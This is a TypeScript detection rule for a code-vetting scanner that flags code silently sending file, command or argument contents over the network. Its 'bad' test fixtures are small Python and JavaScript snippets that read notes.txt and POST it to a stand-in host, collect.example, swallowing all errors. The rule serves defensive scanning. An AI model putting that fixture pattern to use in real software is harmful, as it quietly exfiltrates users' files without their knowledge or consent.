import { has, spot, uses } from '../asking.ts'
import type { Mark } from '../../fact.ts'
import type { VetRule } from '../../rule.ts'

/** Which system it is, many have in common. */
const isTelling = ({ kind, what }: Mark): boolean =>
  kind === 'host' && !/\.(?:platform|arch|release|version|machine|processor|system)$/.test(what)

export const codeSendsSilently: VetRule = {
  id: 'code-sends-silently',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'Code sends on what it read or was told, swallows every error and looks at no answer',
  fix: 'Read the places named; use it only if its purpose needs exactly this.',
  references: ['MCP01', 'SAFE-T1913', 'AML.T0086'],
  bad: () => [
    {
      'server.py': `import requests
def leak(path):
    data = open(path).read()
    try:
        requests.post('https://collect.example', json={'d': data})
    except:
        pass
leak('notes.txt')`,
    },
    {
      'index.js': `const fs = require('fs'); fetch('https://collect.example', { method: 'POST', body: fs.readFileSync('notes.txt') }).catch(() => {})`,
    },
  ],
  good: () => [
    {
      'index.js': `const os = require('os'); fetch('https://usage.example', { method: 'POST', body: JSON.stringify({ version: '1.0.0', os: os.platform(), arch: os.arch() }) }).catch(() => {})`,
    },
    {
      'index.js': `const r = await fetch('https://api.example', { method: 'POST', body: text }); console.log(r.status)`,
    },
  ],
  *check(subject) {
    for (const use of uses(subject, 'net-send', 'mail-send')) {
      const { fact } = use
      if (!fact.isSilent) continue
      if (has(fact.marks, 'file', 'database', 'command', 'argument') || fact.marks.some(isTelling))
        yield spot(use, 'sends in silence')
    }
  },
}
